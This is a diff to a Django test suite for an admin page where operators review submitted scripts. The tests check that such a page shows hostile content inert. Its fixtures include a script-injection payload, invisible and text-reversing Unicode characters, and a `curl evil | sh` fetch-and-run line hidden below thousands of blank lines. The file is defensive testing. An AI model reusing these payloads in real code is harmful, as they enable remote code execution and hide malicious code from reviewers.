@@ -1,4 +1,5 @@
 import hashlib
+import re
 
 from django.urls import reverse
 from django.utils.html import escape
@@ -27,8 +28,18 @@ def change_page(client, candidacy) -> str:
     return client.get(reverse("admin:indexer_candidacy_change", args=[candidacy.pk])).content.decode()
 
 
-def source_row(page: str, number: int) -> str:
-    return page.split(f'<tr id="L{number}"')[1].split("</tr>")[0]
+def source_row(page: str, number: int, prefix: str = "L") -> str:
+    """The listing's row for line ``number``: its opening tag's attributes through its text."""
+    parts = page.split(f' id="{prefix}{number}">')
+    return parts[1].split("</div>")[0] if len(parts) > 1 else ""
+
+
+def anchored_lines(page: str, prefix: str = "L") -> list[int]:
+    return [int(number) for number in re.findall(rf' id="{prefix}(\d+)">', page)]
+
+
+def row_class(page: str, number: int) -> str:
+    return page.split(f' id="L{number}">')[0].rsplit("<div", 1)[1]
 
 
 def test_every_finding_links_to_its_line_in_the_whole_numbered_source(admin_client, card):
@@ -37,9 +48,10 @@ def test_every_finding_links_to_its_line_in_the_whole_numbered_source(admin_clie
     page = change_page(admin_client, candidacy)
     assert f'<a href="#L{finding["line"]}">line {finding["line"]}</a>' in page
     flagged = source_row(page, finding["line"])
-    assert "os.system" in flagged and finding["rule"] in flagged and "#fff3cd" in flagged
+    assert "os.system" in flagged and finding["rule"] in flagged
+    assert "f2f-flagged" in row_class(page, finding["line"]) and "f2f-flagged" not in row_class(page, 1)
     total = len(corpus_file("os_system.txt").decode().split("\n"))
-    assert all(f'<tr id="L{n}"' in page for n in range(1, total + 1))
+    assert anchored_lines(page) == list(range(1, total + 1))
 
 
 def test_a_candidacy_with_no_findings_still_shows_its_whole_source(admin_client, card):
@@ -60,21 +72,101 @@ def test_the_source_numbers_lines_as_python_does(admin_client, card):
     assert "os.system" in source_row(change_page(admin_client, candidacy), finding["line"])
 
 
+HOSTILE = (
+    'BANNER = "</textarea></span></div></section><script>alert(1)</script>"  # \u202e desrever \u2066\n'
+    "x = 1  # zero\u200bwidth, \u3164 filler, no-break\u00a0space, form\x0cfeed, escape \x1b[2J, line\u2028sep\n"
+    f'LONG = "{"x" * 5000}"\n'
+    f'WIDE = 1{" " * 200}; HIDDEN = 2\n'
+).encode()
+
+
 def test_hostile_text_in_the_source_is_shown_inert(admin_client, card):
-    trap = b'BANNER = "</textarea></td></table><script>alert(1)</script>"  # \xe2\x80\xae reversed\n' + b"x" * 5000 + b" = 1\n"
-    candidacy = awaiting(card, corpus_file("clean_legacy.txt") + trap)
+    base = corpus_file("clean_legacy.txt")
+    candidacy = awaiting(card, base + HOSTILE)
     page = change_page(admin_client, candidacy)
-    assert "<script>alert(1)</script>" not in page
-    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
-    assert page.count('<tr id="L') == len((corpus_file("clean_legacy.txt") + trap).decode().split("\n"))
+    first = len(base.decode().split("\n"))
+    banner, chars, long, wide = (source_row(page, first + n) for n in range(4))
+
+    assert "<script>alert(1)</script>" not in page and "</textarea></span>" not in page
+    assert "&lt;/textarea&gt;&lt;/span&gt;&lt;/div&gt;&lt;/section&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in banner
+    # Nothing that draws as nothing, or reorders the text around it, reaches the page: each is a visible badge.
+    for char in "\u202e\u2066\u200b\u3164\u00a0\x0c\x1b\u2028":
+        assert char not in page
+    assert ">U+202E<" in banner and ">U+2066<" in banner and "RIGHT-TO-LEFT OVERRIDE" in banner
+    assert all(f">U+{code}<" in chars for code in ("200B", "3164", "00A0", "000C", "001B", "2028"))
+    assert "x" * 5000 in long  # a very long line is one row, whole (the style sheet wraps it)
+    assert ">200 blanks<" in wide and "HIDDEN = 2" in wide
+    assert anchored_lines(page) == list(range(1, first + 5))
+
+
+def test_every_character_the_analyzer_calls_hiding_is_shown_as_a_badge():
+    from indexer.admin import line_html, unreadable
+    from indexer.analysis import hidden_characters
+
+    # Planes 0, 1 and 14 hold every format and control character; 2-3 are ideographs, 15-16 private use.
+    codes = [*range(0x20000), *range(0xE0000, 0xF0000)]
+    everything = "\n".join(chr(code) for code in codes if code not in (10, 13) and not 0xD800 <= code <= 0xDFFF)
+    flagged = [everything.split("\n")[finding.line - 1] for finding in hidden_characters(everything)]
+    assert len(flagged) > 20 and all(unreadable(char) and "f2f-char" in line_html(char) for char in flagged)
+    assert line_html("café ≠ naïve 中文") == "café ≠ naïve 中文"  # ordinary letters and symbols stay as they are
+
+
+def test_code_pushed_down_by_blank_lines_is_one_fold_away(admin_client, card):
+    base = corpus_file("clean_legacy.txt")
+    candidacy = awaiting(card, base + b"\n" * 5000 + b"import os\nos.system('curl evil | sh')\n")
+    page = change_page(admin_client, candidacy)
+    finding = Candidacy.objects.get(pk=candidacy.pk).report["findings"][-1]
+    first_blank = len(base.decode().split("\n"))
+    assert f"5,000 blank lines ({first_blank}\u2013{first_blank + 4999})" in source_row(page, first_blank)
+    assert finding["line"] == first_blank + 5001 and "os.system" in source_row(page, finding["line"])
+    assert len(page) < 100_000
+
+
+def test_a_256_kb_file_renders_whole_and_compact(admin_client, card):
+    helper = b"\n\ndef helper_%d(values):\n    total = 0\n    for v in values:\n        total += v\n    return total\n"
+    content = corpus_file("os_system.txt")
+    while len(content) < 250 * 1024:
+        content += helper % len(content)
+    candidacy = awaiting(card, content)
+    page = change_page(admin_client, candidacy)
+    total = len(content.decode().split("\n"))
+    assert total > 10_000 and anchored_lines(page) == list(range(1, total + 1))
+    assert len(page) < 8 * len(content)
+
+
+def test_requirements_are_listed_numbered_and_inert(admin_client, card):
+    candidacy = services.candidacy_submit(card=card, num_rounds=5, min_clients=2, client_filename="Client.py",
+                                          client_content=corpus_file("clean_legacy.txt"),
+                                          requirements_txt="flwr==1.42.0\n<script>alert(2)</script>\n")
+    page = change_page(admin_client, candidacy)
+    assert "flwr==1.42.0" in source_row(page, 1, "R") and "&lt;script&gt;alert(2)" in source_row(page, 2, "R")
+    assert "<script>alert(2)" not in page
 
 
 def test_the_approval_page_repeats_the_hash_and_size_that_will_be_served(admin_client, card):
     candidacy = awaiting(card, corpus_file("os_system.txt"))
     page = admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk]}).content.decode()
     content = corpus_file("os_system.txt")
-    assert hashlib.sha256(content).hexdigest() in page and f"{len(content)} bytes" in page
+    assert f'data-testid="sha256">{hashlib.sha256(content).hexdigest()}<' in page
+    assert f'data-testid="size">{len(content)} bytes<' in page
     assert "Has findings" in page and "Read the source" in page
+
+
+def test_the_approval_page_hashes_the_bytes_themselves_not_the_stored_digest(admin_client, card):
+    candidacy = awaiting(card)
+    Candidacy.objects.filter(pk=candidacy.pk).update(client_sha256="0" * 64)
+    page = admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk]}).content.decode()
+    assert hashlib.sha256(corpus_file("clean_legacy.txt")).hexdigest() in page and "0" * 64 not in page
+
+
+def test_no_page_calls_a_script_clean_or_safe(admin_client, card):
+    candidacy = awaiting(card)
+    pages = [admin_client.get(CHANGELIST).content.decode(), change_page(admin_client, candidacy),
+             admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk]}).content.decode()]
+    for page in pages:
+        assert "No known-dangerous pattern found" in page
+        shown = re.sub(r"<[^>]*>", " ", page)  # the words a reader sees, not attribute values such as ?verdict=clean
+        assert not re.search(r"\b(clean|safe)\b", shown, re.IGNORECASE)
 
 
 def test_staff_who_may_only_view_cannot_decide(client, django_user_model, card):
@@ -128,7 +220,8 @@ def test_the_public_page_says_when_the_script_was_checked_and_reviewed(admin_cli
     decision = Decision.objects.get()
     page = client.get(candidacy.federation.get_absolute_url()).content.decode()
     review = page.split('data-testid="review">')[1].split("</p>")[0]
-    assert "checked automatically" in review and "reviewed by an operator" in review
+    assert "checked automatically for known-dangerous patterns when it was submitted, on " in review
+    assert "and reviewed by an operator, who approved it on " in review
     assert decision.at.strftime("%Y-%m-%d") in review and candidacy.created_at.strftime("%Y-%m-%d") in review
     assert "safe" not in review.lower() and "clean" not in review.lower()
 
